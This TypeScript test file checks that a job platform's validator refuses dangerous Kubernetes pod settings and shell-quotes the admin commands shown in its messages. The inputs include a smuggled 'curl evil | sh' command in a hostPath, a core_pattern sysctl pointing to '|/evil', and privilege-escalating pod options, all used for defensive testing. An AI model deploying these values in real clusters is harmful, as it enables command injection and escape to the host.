import assert from "node:assert/strict";
import { test } from "node:test";
import { NAMESPACE_RULES, type NamespaceRules, reservedNamespaces } from "../../src/core/admin/namespace.ts";
import type { SentJob } from "../../src/core/job/request/sent.ts";
import type { ClusterSpec } from "../../src/core/kinds/kind.ts";
import { podKind } from "../../src/core/kinds/plugin.ts";
import { PLAIN_POD_CONFIG, type PodConfig } from "../../src/core/pods/pod-config.ts";
import { type PodPolicy, policyInForce, TRIAL_DEFAULT } from "../../src/core/pods/policy/pod-policy.ts";
import { TemplateJudge } from "../../src/intake/judged-templates.ts";
import { validate } from "../../src/intake/validate.ts";
import { arrayAt, type JsonObject, objectAt, stringAt } from "../../src/runtime/json.ts";
import { kindsWith } from "../support/kinds.ts";
import { NO_CLASSES } from "../support/no-classes.ts";

/** A kind from outside that adds whatever the job's kind spec says. */
const copycat = podKind({
  name: "CopyJob",
  description: "a test's",
  kindSpec: {
    volumes: { type: "array" },
    initContainers: { type: "array" },
    account: { type: "string" },
    onlyLast: { type: "boolean" },
  },
  clusterSpec: ({ spec, index }): ClusterSpec => {
    const { kindSpec = {} } = spec;
    const account = stringAt(kindSpec, "account");
    if (kindSpec["onlyLast"] === true && index < 4) return { env: {}, initContainers: [] };
    return {
      env: {},
      initContainers: arrayAt(kindSpec, "initContainers") as readonly JsonObject[],
      volumes: arrayAt(kindSpec, "volumes") as readonly JsonObject[],
      ...(account === undefined ? {} : { serviceAccount: account }),
    };
  },
  objects: () => [{ apiVersion: "v1", kind: "ServiceAccount", metadata: { name: "made-by-kind" } }],
});
const KINDS = kindsWith({ id: "copycat", kinds: [copycat] });

type Given = {
  readonly policy?: PodPolicy;
  readonly config?: PodConfig;
  readonly rules?: NamespaceRules;
  readonly namespace?: string;
  readonly isNew?: boolean;
};

/** The fields that are refused or warned about, with their messages. */
async function findings(spec: SentJob["spec"], given: Given) {
  const { policy, config = PLAIN_POD_CONFIG, rules, namespace = "team", isNew = false } = given;
  const sent = { namespace, name: "j", generateName: "", labels: {}, annotations: {}, spec };
  const known = { project: "default", defaultQueue: "default", podPolicy: policy ?? null };
  const facts = {
    namespace: known,
    queueExists: async () => true,
    priorityClasses: NO_CLASSES,
    nodeResources: async () => null,
  };
  const { podPolicyDefault, isReserved } = rules ?? NAMESPACE_RULES;
  const podPolicy = policyInForce(policy ?? null, podPolicyDefault);
  const found = await validate(sent, facts, {
    rules: { kinds: KINDS, podConfig: config, podPolicy, isNew, isReserved },
    templateJudge: new TemplateJudge(),
  });
  const short = ({ field, message }: { readonly field: string; readonly message: string }) => ({
    field: field.replace("job.spec.replica_specs[Worker].template.", ""),
    message,
  });
  return { violations: found.violations.map(short), warnings: found.warnings.map(short) };
}

const main = { name: "main", image: "acme.com/train" };
const job = (spec: JsonObject = {}, metadata?: JsonObject): SentJob["spec"] => ({
  kind: "Job",
  replicaSpecs: {
    Worker: { template: { ...(metadata === undefined ? {} : { metadata }), spec: { containers: [main], ...spec } } },
  },
});

type Hostile = { readonly spec: JsonObject; readonly field: string; readonly also?: readonly string[] };
const hostile: Readonly<Record<string, Hostile>> = {
  "a capability": {
    spec: { containers: [{ ...main, securityContext: { capabilities: { add: ["SYS_ADMIN"] } } }] },
    field: "spec.containers[0].securityContext.capabilities.add[0]",
  },
  "a /proc without masks": {
    spec: { containers: [{ ...main, securityContext: { procMount: "Unmasked" } }] },
    field: "spec.containers[0].securityContext.procMount",
    // Kubernetes refuses it in a pod with the users of the node.
    also: ["spec.containers[0].securityContext.procMount"],
  },
  "a process of the host": {
    spec: { securityContext: { windowsOptions: { hostProcess: true } } },
    // Kubernetes refuses it without the network of the node.
    also: ["spec.hostNetwork"],
    field: "spec.securityContext.windowsOptions.hostProcess",
  },
  "a port of the host": {
    spec: { containers: [{ ...main, ports: [{ containerPort: 80, hostPort: 80 }] }] },
    field: "spec.containers[0].ports[0].hostPort",
  },
  "a kernel parameter": {
    spec: { securityContext: { sysctls: [{ name: "kernel.core_pattern", value: "|/evil" }] } },
    field: "spec.securityContext.sysctls[0].name",
  },
  "an inline CSI volume": {
    spec: { volumes: [{ name: "v", csi: { driver: "evil" } }] },
    field: "spec.volumes[0].csi",
  },
  "a flexVolume": {
    spec: { volumes: [{ name: "v", flexVolume: { driver: "a/b" } }] },
    field: "spec.volumes[0].flexVolume",
  },
  "an NFS volume": {
    spec: { volumes: [{ name: "v", nfs: { server: "10.0.0.1", path: "/" } }] },
    field: "spec.volumes[0].nfs",
  },
  "a priority class of the system": {
    spec: { priorityClassName: "system-cluster-critical" },
    field: "spec.priorityClassName",
  },
  "a toleration of every taint": { spec: { tolerations: [{ operator: "Exists" }] }, field: "spec.tolerations[0]" },
  "a grace period without end": {
    spec: { terminationGracePeriodSeconds: 9e15 },
    field: "spec.terminationGracePeriodSeconds",
  },
  "a privileged init container": {
    spec: { initContainers: [{ name: "i", image: "x", securityContext: { privileged: true } }] },
    field: "spec.initContainers[0].securityContext.privileged",
  },
};
for (const [name, { spec, field, also = [] }] of Object.entries(hostile)) {
  test(`a template with ${name} is refused at its path without a policy`, async () => {
    const { violations } = await findings(job(spec), {});
    assert.deepEqual(
      violations.map((one) => one.field),
      [field, ...also],
    );
  });
}

test("a refusal names the control, the level, the namespace and the command that allows it", async () => {
  const { violations } = await findings(job({ hostIPC: true }), {});
  assert.deepEqual(violations, [
    {
      field: "spec.hostIPC",
      message:
        "uses the IPC of the node: control hostNamespaces of level baseline refuses this in namespace team. " +
        "An admin allows it with: gangway namespace update team --allow host-ipc",
    },
  ]);
});

test("a refusal in a namespace that does not exist yet tells how to create it with its policy", async () => {
  const { violations } = await findings(job({ hostIPC: true }), { isNew: true });
  assert.match(violations[0]?.message ?? "", /: gangway namespace create team --allow host-ipc$/);
});

test("a command that a refusal shows has texts of the template as one word", async () => {
  const evil = "/x; curl evil | sh '$(id)'";
  const { violations } = await findings(job({ volumes: [{ name: "v", hostPath: { path: evil } }] }), {});
  assert.match(violations[0]?.message ?? "", / --allow 'host-path=\/x; curl evil \| sh '\\''\$\(id\)'\\'':ro'$/);
  const long = await findings(job({ volumes: [{ name: "v", hostPath: { path: `/${"x".repeat(4000)}` } }] }), {});
  assert.ok((long.violations[0]?.message.length ?? 0) < 500);
});

test("no job may use the namespaces of Kubernetes and of Gangway, whatever their policy says", async () => {
  const policy: PodPolicy = { level: "privileged", allow: [], limits: {} };
  for (const namespace of ["kube-system", "kube-public", "kube-node-lease", "gangway"]) {
    const { violations } = await findings(job({ serviceAccountName: "any" }), { policy, namespace });
    assert.deepEqual(
      violations.map(({ field }) => field),
      ["job.metadata.namespace"],
      namespace,
    );
  }
  const rules = { ...NAMESPACE_RULES, isReserved: reservedNamespaces(["platform"]) };
  const own = await findings(job(), { rules, namespace: "platform" });
  assert.equal(own.violations[0]?.field, "job.metadata.namespace");
  for (const namespace of ["default", "kubeflow", "gangway"]) {
    assert.deepEqual((await findings(job(), { rules, namespace })).violations, []);
  }
});

test("the default of a trial allows host paths with a warning, until an admin sets a level", async () => {
  const rules = { ...NAMESPACE_RULES, podPolicyDefault: TRIAL_DEFAULT };
  const spec = job({ volumes: [{ name: "v", hostPath: { path: "/dev/shm" } }] });
  const trial = await findings(spec, { rules });
  assert.deepEqual(trial.violations, []);
  assert.match(trial.warnings[0]?.message ?? "", /gangway namespace update team --allow host-path=\/dev\/shm:ro$/);
  const other = await findings(spec, { rules, policy: { level: null, allow: ["host-ipc"], limits: {} } });
  assert.deepEqual([other.violations.length, other.warnings.length], [0, 1], "an allowance keeps the default's");
  const set = await findings(spec, { rules, policy: { level: "baseline", allow: [], limits: {} } });
  assert.deepEqual([set.violations.length, set.warnings.length], [1, 0]);
  const served = await findings(spec, {});
  assert.deepEqual([served.violations.length, served.warnings.length], [1, 0]);
});

test("limits hold at every level, for init containers too", async () => {
  const policy: PodPolicy = {
    level: "privileged",
    allow: [],
    limits: { image: ["acme.com/*"], "service-account": ["trainer"], "priority-class": ["low"] },
  };
  const spec = { initContainers: [{ name: "i", image: "evil.org/x" }], priorityClassName: "system-node-critical" };
  const { violations } = await findings(job(spec), { policy });
  assert.deepEqual(
    violations.map(({ field }) => field),
    ["spec.initContainers[0].image", "spec.serviceAccountName", "spec.priorityClassName"],
  );
  const empty = await findings(job({ serviceAccountName: "" }), { policy });
  assert.deepEqual(
    empty.violations.map(({ field }) => field),
    ["spec.serviceAccountName"],
  );
  const good = job({ serviceAccountName: "trainer", priorityClassName: "low" });
  assert.deepEqual((await findings(good, { policy })).violations, []);
});

test("the platform's own settings are trusted, and cannot hide what the template sets", async () => {
  const hostPath = { name: "host", hostPath: { path: "/etc" } };
  const base = { spec: { volumes: [hostPath], hostPID: true, containers: [{ name: "default", image: "none" }] } };
  const config: PodConfig = {
    ...PLAIN_POD_CONFIG,
    enableHostNetworkingPod: false,
    serviceAccount: "platform",
    defaultPodTemplateName: "base",
    podTemplateNamespace: "p",
    podTemplates: [{ namespace: "p", name: "base", template: base }],
  };
  const policy: PodPolicy = { level: null, allow: [], limits: { "service-account": ["trainer"] } };
  assert.deepEqual((await findings(job(), { config, policy })).violations, []);
  const spec = { hostNetwork: true, volumes: [hostPath], serviceAccountName: "platform" };
  const { violations } = await findings(job(spec), { config, policy });
  assert.deepEqual(
    violations.map(({ field }) => field),
    ["spec.hostNetwork", "spec.volumes[0].hostPath", "spec.serviceAccountName"],
  );
});

test("what a level requires may come from the platform", async () => {
  const policy: PodPolicy = { level: "restricted", allow: [], limits: {} };
  const config: PodConfig = {
    ...PLAIN_POD_CONFIG,
    defaultPodSecurityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
    defaultSecurityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
  };
  assert.equal((await findings(job(), { policy })).violations.length, 4);
  assert.deepEqual((await findings(job(), { policy, config })).violations, []);
  const root = job({ securityContext: { runAsUser: 0 } });
  assert.ok((await findings(root, { policy, config })).violations.some(({ field }) => field.endsWith("runAsUser")));
});

const copied = (kindSpec: JsonObject): SentJob["spec"] => ({
  kind: "CopyJob",
  replicaSpecs: { Worker: { replicas: 5, template: { spec: { containers: [main] } } } },
  kindSpec,
});

test("a plugin's pods are judged with the parts that its kind adds, of the last replica too", async () => {
  const volumes = [{ name: "v", hostPath: { path: "/etc" } }];
  for (const onlyLast of [false, true]) {
    const { violations } = await findings(copied({ volumes, onlyLast }), {});
    assert.deepEqual(
      violations.map(({ field }) => field),
      ["spec.volumes[0].hostPath"],
    );
    assert.match(violations[0]?.message ?? "", /^\(added by the kind CopyJob\) mounts \/etc of the node/);
  }
  const init = { initContainers: [{ name: "i", image: "evil.org/x" }], account: "admin" };
  const limits = { image: ["acme.com/*"], "service-account": ["default", "trainer"] };
  const policy: PodPolicy = { level: null, allow: [], limits };
  const limited = await findings(copied(init), { policy });
  assert.deepEqual(
    limited.violations.map(({ field }) => field),
    ["spec.initContainers[0].image", "spec.serviceAccountName"],
  );
  assert.deepEqual((await findings(copied({ account: "made-by-kind" }), { policy })).violations, []);
});

test("a gang of any size is judged at once, whatever its kind makes of its size", async () => {
  const limits = { "service-account": ["trainer"] };
  const policy: PodPolicy = { level: null, allow: [], limits };
  const template = { spec: { containers: [{ name: "tensorflow", image: "i" }] } };
  for (const kind of ["TFJob", "CopyJob"]) {
    const { violations } = await findings(
      { kind, replicaSpecs: { Worker: { replicas: 2 ** 31 - 1, template } } },
      { policy },
    );
    assert.ok(violations.some(({ field }) => field === "spec.serviceAccountName"));
  }
});

test("the kinds of Gangway itself run under every policy", async () => {
  const limits = { image: ["acme.com/*"], "service-account": ["trainer"] };
  const policy: PodPolicy = { level: "baseline", allow: [], limits };
  for (const kind of KINDS.all.filter(({ runs, name }) => runs !== "service" && name !== "CopyJob")) {
    const replicas = objectAt(objectAt(kind.example, "spec"), kind.replicaSpecsField);
    const replicaSpecs = Object.fromEntries(
      Object.keys(replicas).map((role) => {
        const [container] = arrayAt(objectAt(objectAt(objectAt(replicas, role), "template"), "spec"), "containers");
        const containers = [{ ...(container as JsonObject), image: "acme.com/train" }];
        return [role, { replicas: 1, template: { spec: { serviceAccountName: "trainer", containers } } }];
      }),
    );
    const { violations } = await findings({ kind: kind.name, replicaSpecs }, { policy });
    const ofPolicy = violations.filter(({ message }) => message.includes("namespace update"));
    assert.deepEqual(ofPolicy, [], kind.name);
  }
});
